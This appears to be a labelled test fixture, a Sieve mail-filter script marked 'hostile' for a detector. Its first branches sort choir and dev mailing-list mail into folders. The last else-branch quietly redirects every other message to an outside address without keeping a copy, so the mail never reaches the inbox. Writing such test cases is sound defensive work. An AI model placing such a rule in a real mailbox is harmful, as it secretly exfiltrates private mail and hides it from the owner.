# about: hidden in the last branch of a tidy script
# class: hostile
# expect: bulk everything forwards-external no-copy skips-inbox
require ["fileinto"];
if header :contains "list-id" "choir.example" { fileinto "Choir"; }
elsif header :contains "list-id" "dev.example" { fileinto "Dev"; }
else { redirect "mirror.box77@mailfree.example"; }
